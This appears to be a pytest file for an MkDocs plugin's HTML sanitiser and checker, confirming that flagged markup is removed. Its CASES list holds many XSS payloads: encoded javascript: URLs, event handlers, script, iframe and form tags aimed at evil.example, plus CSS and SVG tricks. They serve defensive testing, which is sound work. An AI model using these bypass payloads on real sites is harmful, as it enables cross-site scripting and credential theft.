"""One allowlist: what `check_html` reports in the Markdown is what `sanitize_html` removes.

Pages are rendered with the repository's own Markdown extensions (`tests/html_markup.py`) and
read back with an HTML5 parser, so the comparisons are about elements and attributes, not bytes
(nh3 re-serialises what it keeps).
"""

from __future__ import annotations

from collections import Counter
from typing import TYPE_CHECKING, Any, NamedTuple

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mkdocs_pmo.core.html_safety import HtmlFinding, check_html, sanitize_html, url_problem
from tests.html_markup import elements, local, render, tree

if TYPE_CHECKING:
    from collections.abc import Iterable

#: A page using everything the site's Markdown extensions and Material render, plus the plugin's
#: own reference links and raw HTML written the way Material's documentation shows it.
SAMPLE_PAGE = """\
# Title { #top .lead }

Some *em*, **strong**, `code`, :smile:, :material-check:{ .green } and `#!python x = 1`.
A [link](https://example.org/a?b=1#c "Title"), a [relative one](../other/#why), mail
<someone@example.org>, <https://example.org/auto>, [tel](tel:+441234) and ![image](img/a.png){ width="300" loading=lazy }.

!!! note "Admonition"
    Body with a footnote[^1].

??? tip "Details"
    Hidden.

???+ warning
    Open.

=== "Tab 1"
    One

=== "Tab 2"
    Two

- [x] done
- [ ] todo

| left | centre | right |
|:-----|:------:|------:|
| 1    | 2      | 3     |

Term
:   Definition

The HTML spec.

*[HTML]: Hyper Text Markup Language

[Get started](#top){ .md-button .md-button--primary }

<div class="grid cards" markdown>

- :material-clock-fast:{ .lg .middle } __Set up in minutes__

    ---

    Install and go.

</div>

<a class="pmo-ref pmo-ref--active" href="../standards/STD-001.md" title="Active · A summary">STD-001 Lifecycle</a>
<span class="pmo-broken" title="Unknown document ID">[[STD-999]]</span>
<span class="twemoji"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2A10 10 0 0 0 2 12"/></svg></span>
<abbr title="Project management office">PMO</abbr>, <kbd>Ctrl</kbd>, <mark>marked</mark>, H<sub>2</sub>O.

<details class="example" open><summary>More</summary><p>Inside.</p></details>

<section aria-labelledby="why" data-pmo="1"><h2 id="why">Why</h2><p lang="fr" dir="ltr">Parce que.</p></section>

[^1]: The note.
"""

#: Fenced code is blanked by the body scanner before `check_html`; rendering it is what matters.
SAMPLE_CODE = """
```python linenums="1" hl_lines="2" title="example.py"
def f():
    return 1
```

```mermaid
graph LR
  a --> b
```
"""


def test_sample_page_renders_every_feature() -> None:
    """The sample really exercises the markup the allowlist must keep (no vacuous pass)."""
    found = elements(render(SAMPLE_PAGE + SAMPLE_CODE))
    tags = {tag for tag, _ in found}
    assert {"svg", "path", "input", "label", "details", "summary", "table", "abbr", "sup",
            "dl", "pre", "img", "section", "kbd"} <= tags  # fmt: skip
    pairs = {(tag, name, value) for tag, attrs in found for name, value in attrs.items()}
    for expected in [
        ("input", "type", "radio"),
        ("input", "type", "checkbox"),
        ("th", "style", "text-align: center;"),
        ("a", "class", "headerlink"),
        ("a", "class", "md-button md-button--primary"),
        ("a", "class", "footnote-ref"),
        ("pre", "class", "mermaid"),
        ("table", "class", "highlighttable"),
        ("div", "class", "tabbed-set tabbed-alternate"),
        ("span", "class", "twemoji green"),
        ("div", "class", "grid cards"),
        ("a", "class", "pmo-ref pmo-ref--active"),
        ("details", "open", "open"),
    ]:
        assert expected in pairs, expected
    assert any(tag == "svg" and "viewbox" in attrs for tag, attrs in found)
    assert any(tag == "label" and "for" in attrs for tag, attrs in found)
    assert any(tag == "span" and attrs.get("class") == "hll" for tag, attrs in found)


def test_sanitiser_keeps_every_element_and_attribute_of_the_sample() -> None:
    html = render(SAMPLE_PAGE + SAMPLE_CODE)
    assert elements(sanitize_html(html)) == elements(html)


def test_svg_keeps_its_namespace_and_the_case_of_viewbox() -> None:
    svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M1 2z"/></svg>'
    out = sanitize_html(svg)
    assert 'viewBox="0 0 24 24"' in out
    parsed = tree(out)
    assert [el.tag for el in parsed.iter()][1:] == [
        "{http://www.w3.org/2000/svg}svg",
        "{http://www.w3.org/2000/svg}path",
    ]


def test_sample_markdown_has_no_finding() -> None:
    assert check_html(SAMPLE_PAGE, 1) == []


class Case(NamedTuple):
    doc: str
    markdown: str
    what: str


RESERVED = ' (names starting with "__" are reserved for the theme\'s own elements)'
#: Every spelling the contract names; each must be reported and removed from the page.
CASES = [
    Case("Event handler in upper case.", '<a href="#x" ONCLICK="alert(1)">x</a>', "onclick on <a>"),
    Case("Handler after a slash, no space.", "<img/onerror=alert(1) src=a.png>", "onerror on <img>"),
    Case("Handler on SVG.", '<svg onload="alert(1)"></svg>', "onload on <svg>"),
    Case("Handler with a mixed-case name.", "<p OnMouseOver='x'>p</p>", "onmouseover on <p>"),
    Case("Plain javascript: URL.", '<a href="javascript:alert(1)">x</a>', "javascript: URL in href of <a>"),
    Case("Decimal character reference.", '<a href="&#106;avascript:alert(1)">x</a>', "javascript: URL in href of <a>"),
    Case("Reference without semicolon.", '<a href="&#106avascript:alert(1)">x</a>', "javascript: URL in href of <a>"),
    Case("Hexadecimal character reference.", '<a href="&#x6A;avascript:alert(1)">x</a>', "javascript: URL in href of <a>"),
    Case("Encoded tab inside the scheme.", '<a href="jav&#x09;ascript:alert(1)">x</a>', "javascript: URL in href of <a>"),
    Case("Named colon.", '<a href="javascript&colon;alert(1)">x</a>', "javascript: URL in href of <a>"),
    Case("Named tab.", '<a href="java&Tab;script:alert(1)">x</a>', "javascript: URL in href of <a>"),
    Case("Newline inside the scheme.", '<a href="java\nscript:alert(1)">x</a>', "javascript: URL in href of <a>"),
    Case("Upper case.", '<a href="JAVASCRIPT:alert(1)">x</a>', "javascript: URL in href of <a>"),
    Case("Leading spaces and control characters.", '<a href="  \x01javascript:alert(1)">x</a>', "javascript: URL in href of <a>"),
    Case("Image source.", '<img src="javascript:alert(1)" alt="">', "javascript: URL in src of <img>"),
    Case("vbscript: URL.", '<a href="vbscript:msgbox(1)">x</a>', "vbscript: URL in href of <a>"),
    Case("data:text/html URL.", '<a href="data:text/html,<script>alert(1)</script>">x</a>', "data: URL in href of <a>"),
    Case("Markdown link.", "[x](javascript:alert(1))", "javascript: URL in a Markdown link"),
    Case("Markdown link with a title.", '[x](  JavaScript:alert(1) "t")', "javascript: URL in a Markdown link"),
    Case("Markdown link in angle brackets.", "[x](<javascript:alert(1)>)", "javascript: URL in a Markdown link"),
    Case("Reference definition in angle brackets.", "[x][r]\n\n[r]: <javascript:alert(1)>", "javascript: URL in a Markdown reference definition"),
    Case("Markdown link with a reference.", "[x](&#106;avascript:alert(1))", "javascript: URL in a Markdown link"),
    Case("Markdown image with a data: URL.", "![x](data:text/html,<b>x</b>)", "data: URL in a Markdown image"),
    Case("Reference definition.", "[x][r]\n\n[r]: javascript:alert(1)", "javascript: URL in a Markdown reference definition"),
    Case("Tag after an escaped link text.", "\\[x](<img src=x onerror=alert(1)>)", "onerror on <img>"),
    Case("Attribute list after strong text.", "**x**{: onclick=alert(1) }", "onclick on <strong> (attribute list)"),
    Case("Attribute list of a quoted paragraph.", "> quote\n> {: onclick=alert(1) }", "onclick on <p> (attribute list)"),
    Case("Tag continued on the next quoted line.", "> <img src=x\n> onerror=alert(1)>", "onerror on <img>"),
    Case("Tag continued in a nested quote.", "> > <b\n> > onclick=alert(1)>x</b>", "onclick on <b>"),
    Case("Reference definition in a blockquote.", "[x][r]\n\n> [r]: javascript:alert(1)", "javascript: URL in a Markdown reference definition"),
    Case("Reference definition in a list item.", "[x][r]\n\n- [r]: data:text/html,x", "data: URL in a Markdown reference definition"),
    Case("Reference definition, URL on the next quoted line.", "[x][r]\n\n> [r]:\n> javascript:alert(1)", "javascript: URL in a Markdown reference definition"),
    Case("Autolink with a scheme not allowed.", "<ftp://example.org/file>", "ftp: URL in an autolink"),
    Case("Form.", '<form action="https://evil.example/login"><input type="password" name="p"></form>', "<form>"),
    Case("Password input.", '<input type="password" name="p">', 'type="password" on <input>'),
    Case("Text input.", "<input type=text>", 'type="text" on <input>'),
    Case("Button with formaction.", '<button formaction="javascript:alert(1)">b</button>', "<button>"),
    Case("External stylesheet link.", '<link rel="stylesheet" href="//evil.example/x.css">', "<link>"),
    Case("Style element with @import.", "<style>@import url(//evil.example/x.css);</style>", "<style> and its content"),
    Case("Meta refresh.", '<meta http-equiv="refresh" content="0;url=https://evil.example">', "<meta>"),
    Case("SVG animation with a handler.", '<svg><animate onbegin="alert(1)" attributeName="x"/></svg>', "<animate>"),
    Case("SVG set of href to a script URL.", '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>', "<set>"),
    Case("SVG link through xlink:href.", '<svg><a xlink:href="javascript:alert(1)">x</a></svg>', "xlink:href on <a>"),
    Case("Base.", '<base href="https://evil.example/">', "<base>"),
    Case("Iframe.", '<iframe src="https://evil.example/"></iframe>', "<iframe>"),
    Case("Frame.", '<frame src="https://evil.example/">', "<frame>"),
    Case("Object.", '<object data="x.swf"></object>', "<object>"),
    Case("Embed.", '<embed src="x.swf">', "<embed>"),
    Case("Script, content dropped too.", "<script>alert(1)</script>", "<script> and its content"),
    Case("Script in upper case.", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script> and its content"),
    Case("srcdoc on an iframe.", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "<iframe>"),
    Case("srcdoc elsewhere.", '<div srcdoc="x">d</div>', "srcdoc on <div>"),
    Case("style with url().", '<span style="background: url(https://evil.example/x)">s</span>', "style on <span>"),
    Case("style with expression() on a cell.", '<table><tr><td style="width: expression(alert(1))">c</td></tr></table>', 'style="width: expression(alert(1))" on <td>'),
    Case("Math, no MathML allowed.", "<math><mi>x</mi></math>", "<math>"),
    Case("Handler set by attr_list.", '[x](#a){ onclick="alert(1)" }', "onclick on <a> (attribute list)"),
    Case("style set by attr_list on a heading.", "## Heading { style=color:red }", 'style on <h2> (attribute list)'),
    Case("Footnote text starting with a script.", "x[^1]\n\n[^1]: <script>alert(1)</script>", "<script> and its content"),
    Case("Footnote text starting with an iframe.", 'x[^1]\n\n[^1]: <iframe src="https://evil.example"></iframe>', "<iframe>"),
    Case("Footnote never referenced.", "[^x]: <img src=x onerror=alert(1)>", "onerror on <img>"),
    Case("Line shaped like a reference definition.", "[x]: <img src=x onerror=alert(1)>", "onerror on <img>"),
    Case("Indented, label with a space.", "  [a b]: <svg onload=alert(1)>", "onload on <svg>"),
    Case("Definition shape in raw HTML.", "<div>\n[x]: <img src=x onerror=alert(1)>\n</div>", "onerror on <img>"),
    Case("Email-link shape in raw HTML.", '<div>\n<img/src="x"/onerror="alert(1)"/@x>\n</div>', "onerror on <img>"),
    Case("Email-link shape in md_in_html.", '<div markdown><p><img/src="x"/onerror="alert(1)"/@x></p></div>', "onerror on <img>"),
    Case("Handler set by attr_list on a table cell.", '| a | b |\n|---|---|\n| b { onclick="alert(1)" } |', "onclick on <td> (attribute list)"),
    Case("Handler set by attr_list on a last cell.", '| a | b |\n|---|---|\n| c | d { onclick="alert(1)" }', "onclick on <td> (attribute list)"),
    Case("Handler set by attr_list on a header cell.", '| a { onclick="alert(1)" } | b |\n|---|---|\n| c | d |', "onclick on <th> (attribute list)"),
    Case("Handler set by attr_list on a definition term.", 'Term { onclick="alert(1)" }\n:   def', "onclick on <dt> (attribute list)"),
    Case("Handler on a loose definition term.", 'T1 { onclick="alert(1)" }\nT2\n\n:   def', "onclick on <dt> (attribute list)"),
    Case("Handler set by attr_list on a setext heading.", 'Title { onclick="alert(1)" }\n=====', "onclick on <h1> (attribute list)"),
    Case("Element standing in for the theme's configuration.", '<div id="__config">{"base": "https://evil.example"}</div>', 'id="__config"' + RESERVED + ' on <div>'),
    Case("Label for the theme's drawer.", '<label for="__drawer">x</label>', 'for="__drawer"' + RESERVED + ' on <label>'),
    Case("Reserved id set by attr_list.", "## Title { #__search }", 'id="__search"' + RESERVED + ' on <h2> (attribute list)'),
    Case("Reserved name set by attr_list.", "[x](#a){ name=__palette }", 'name="__palette"' + RESERVED + ' on <a> (attribute list)'),
    Case("Abrupt comment.", "<!--> [[STD-999]] -->", "the comment <!--> (it ends at once; what follows shows as text)"),
    Case("Abrupt comment with a dash.", "a <!---> b -->", "the comment <!---> (it ends at once; what follows shows as text)"),
    Case("Autolink shape in raw HTML.", '<div>\n<https://a.example/ onmouseover="alert(1)">\n</div>', "<https:>"),
]  # fmt: skip


@pytest.mark.parametrize("case", CASES, ids=[c.doc for c in CASES])
def test_each_spelling_is_reported_and_removed(case: Case) -> None:
    findings = check_html(case.markdown, 10)
    assert case.what in [f.what for f in findings]
    assert all(f.line >= 10 for f in findings)
    assert unreported_removals(case.markdown, findings) == set()
    finding = next(f for f in findings if f.what == case.what)
    page = elements(sanitize_html(render(case.markdown)))
    if finding.element and not finding.attribute:
        assert finding.element not in {tag for tag, _ in page}
    else:
        assert not [
            attrs for tag, attrs in page
            if finding.attribute in attrs and finding.element in ("", tag)
        ]  # fmt: skip


def test_positions_are_file_lines_and_columns() -> None:
    text = 'Intro.\n\nA <b>x</b> and <img src="a.png"\n     onerror="x"> then [y](javascript:z).\n'
    found = check_html(text, 20)
    assert [(f.line, f.col, f.what) for f in found] == [
        (23, 6, "onerror on <img>"),
        (23, 28, "javascript: URL in a Markdown link"),
    ]
    assert check_html("<form>", 5) == [HtmlFinding(5, 1, "<form>", "form")]


@settings(max_examples=1500, deadline=None)
@given(
    st.text(
        alphabet=st.sampled_from(list("<>/!?-=\"' \t\n&#;:[](){}.abcsvgonerrorscriptjavaxhref")),
        max_size=80,
    )
)
def test_check_html_never_fails_and_stays_in_the_text(text: str) -> None:
    """Any text at all gives findings (never an exception) placed on lines of the text."""
    last = 7 + text.count("\n")
    for finding in check_html(text, 7):
        assert 7 <= finding.line <= last
        assert finding.col >= 1


def test_angle_bracket_urls_are_urls_not_tags() -> None:
    """`[x](<url>)` is reported once, for its URL: the brackets do not make a tag."""
    found = check_html("[x](<javascr\tipt:alert(1)>) and [y](<a.png>)\n\n[r]: <JavaScript:x>", 1)
    assert [(f.line, f.col, f.what) for f in found] == [
        (1, 5, "javascript: URL in a Markdown link"),
        (3, 6, "javascript: URL in a Markdown reference definition"),
    ]


def test_a_footnote_starting_with_a_tag_is_checked() -> None:
    """`[^1]: <a …>` is a footnote's text, not a reference definition's URL."""
    found = check_html('x[^1]\n\n[^1]: <a href="javascript:alert(1)">y</a>', 1)
    assert [(f.line, f.col, f.what) for f in found] == [(3, 10, "javascript: URL in href of <a>")]


def test_markdown_that_holds_angle_brackets_is_not_read_as_tags() -> None:
    """Reference definitions, autolinks and email links are Markdown, in Markdown text only."""
    text = (
        '[a]: <https://a.example/x> "t"\n[b]: /u "<img src=x onerror=alert(1)>"\n\n'
        "> [c]: <rel/path>\n\n- item\n\n    [d]: <rel/path>\n\n"
        "Mail <someone@example.org>, <https://example.org/auto>, `<a@b>` <b@c>.\n"
    )
    assert check_html(text, 1) == []


def test_attribute_lists_on_cells_terms_and_headings_are_allowed_when_safe() -> None:
    text = (
        "| a { .x } | b |\n|---|---|\n| c { #i } | d { colspan=2 } |\n\n"
        "Term { .t }\n:   def\n\nTitle {: #top }\n---\n\nProse { with braces } and more.\n"
    )
    assert check_html(text, 1) == []


def test_text_without_markup_is_not_parsed() -> None:
    assert check_html("Plain prose, 3 < 4 and a > b, no links.", 1) == []
    assert check_html("Nothing to see here.", 1) == []


@pytest.mark.parametrize(
    ("url", "problem"),
    [
        ("https://example.org/a", None),
        ("../a/#why", None),
        ("//example.org/x", None),
        ("?q=1", None),
        ("mailto:a@example.org", None),
        ("tel:+44", None),
        ("https:example.org", None),
        ("https://[::1]:8080/", None),
        ("https://user:pw@example.org:443/", None),
        ("java\tscript:alert(1)", "javascript: URL"),
        ("\x00javascript:alert(1)", None),  # NUL reads as U+FFFD: a relative URL,
        ("ftp://example.org", "ftp: URL"),
        ("file:///etc/passwd", "file: URL"),
        ("C:\\Windows", "c: URL"),
        ("http://", "malformed URL"),
        ("https://exa mple.org/", "malformed URL"),
        ("https://example.org:99999/", "malformed URL"),
        ("https://ex<ample.org/", "malformed URL"),
    ],
)
def test_url_problem_agrees_with_the_sanitiser(url: str, problem: str | None) -> None:
    assert url_problem(url) == problem
    kept = sanitize_html(f'<a href="{url}">x</a>')
    assert ("href=" in kept) is (problem is None)


@pytest.mark.parametrize(
    "url",
    [
        "tel://exa mple.org/", "tel://a%20b/", "mailto://x y", "tel:+44 1", "tel://a:99999/",
        "https://a%20b/", "tel://[x]/", "https://1.2.3.999/", "https://1.2.3.4/", "https://0x7f.1/",
        "https://08.1.1.1/", "https://a..b/", "tel://a\\b/", "https:\\\\a b", "https://[::1]x/",
        "https://[::1]:80/", "https://x:/", "https://x:8a/", "https://1.2.3.4.5/", "https://a.1/",
        "https://example.org./", "http://a@b@c/", "HTTPS://EXAMPLE.ORG", "https://-x-.org/",
    ],
)  # fmt: skip
def test_url_problem_matches_nh3_on_hosts(url: str) -> None:
    """The approximate host check agrees with nh3 on the usual mistakes."""
    kept = "href=" in sanitize_html(f'<a href="{url}">x</a>')
    assert kept is (url_problem(url) is None)


# --- Differential: removals by the sanitiser are exactly what the checker reports ----------


def _reported(findings: Iterable[HtmlFinding]) -> tuple[set[str], set[tuple[str, str]]]:
    elements_ = {f.element for f in findings if not f.attribute}
    attributes = {(f.element, f.attribute) for f in findings if f.attribute}
    return elements_, attributes


#: Elements an HTML5 parser clones when it repairs bad nesting ("formatting elements"); it may
#: clone them differently once something else is gone, so they are compared as a set.
FORMATTING = {"a", "b", "big", "code", "em", "font", "i", "nobr", "s", "small", "strike",
              "strong", "tt", "u"}  # fmt: skip


def unreported_removals(markdown: str, findings: list[HtmlFinding]) -> set[tuple[str, ...]]:
    """What the sanitiser removes from the rendered `markdown` that `findings` do not name.

    Elements are counted by tag, attributes compared as `(tag, name, value)` (nh3 keeps values
    as they are). A finding naming an element covers its attributes and everything inside it;
    an attribute finding without an element (an attribute list on an unknown element) covers
    that attribute on any element.
    """
    html = render(markdown)
    before, after = tree(html), tree(sanitize_html(html))
    reported_elements, reported_attrs = _reported(findings)
    anywhere = {name for element, name in reported_attrs if not element}
    # `xlink:href` is parsed into an attribute named `href` in the XLink namespace.
    reported_attrs |= {(e, "href") for e, name in reported_attrs if name == "xlink:href"}

    def expected(root: Any, covered: bool, out: Counter[tuple[str, ...]]) -> None:
        for child in root:
            if not isinstance(child.tag, str):
                continue
            tag = local(child.tag)
            inside = covered or tag in reported_elements
            if not inside:
                out[("element", tag)] += 1
                for name, value in child.attrib.items():
                    name = local(name)
                    if (tag, name) not in reported_attrs and name not in anywhere:
                        out[("attribute", tag, name, value)] = 1
            expected(child, inside, out)

    wanted: Counter[tuple[str, ...]] = Counter()
    expected(before, False, wanted)
    kept: Counter[tuple[str, ...]] = Counter()
    for el in after.iter():
        if isinstance(el.tag, str) and el.tag != "DOCUMENT_FRAGMENT":
            tag = local(el.tag)
            kept[("element", tag)] += 1
            for name, value in el.attrib.items():
                kept[("attribute", tag, local(name), value)] = 1
    return {
        key
        for key, count in wanted.items()
        if kept[key] < (min(count, 1) if key[0] == "element" and key[1] in FORMATTING else count)
    }


def test_a_heading_whose_id_would_be_reserved_is_found() -> None:
    from mkdocs_pmo.core.html_safety import reserved_heading_id

    assert reserved_heading_id("\\_\\_config") == "__config"
    assert reserved_heading_id("__init__") is None  # bold: the id is `init`
    assert reserved_heading_id("snake_case and Why") is None


def test_a_tag_after_a_bracket_in_code_is_html() -> None:
    """`[y` is code, so `](<b ...>` is no link: the tag is raw HTML, and checked as such."""
    from mkdocs_pmo.core.body import link_pattern, scan_body

    markdown = "`[y`](<b onclick=alert(2)>z</b>)"
    masked = scan_body(markdown, 1, link_pattern(["STD"])).html_text
    findings = check_html(masked, 1)
    assert [f.what for f in findings] == ["onclick on <b>"]
    assert unreported_removals(markdown, findings) == set()


def test_an_attribute_list_after_a_code_span_goes_to_its_code() -> None:
    """The body is read with code blanked; the source says a code span ended there."""
    from mkdocs_pmo.core.body import link_pattern, scan_body

    markdown = "a `c`{: onclick=alert(1) } b"
    masked = scan_body(markdown, 1, link_pattern(["STD"])).html_text
    findings = check_html(masked, 1, source=markdown)
    assert [f.what for f in findings] == ["onclick on <code> (attribute list)"]
    assert unreported_removals(markdown, findings) == set()
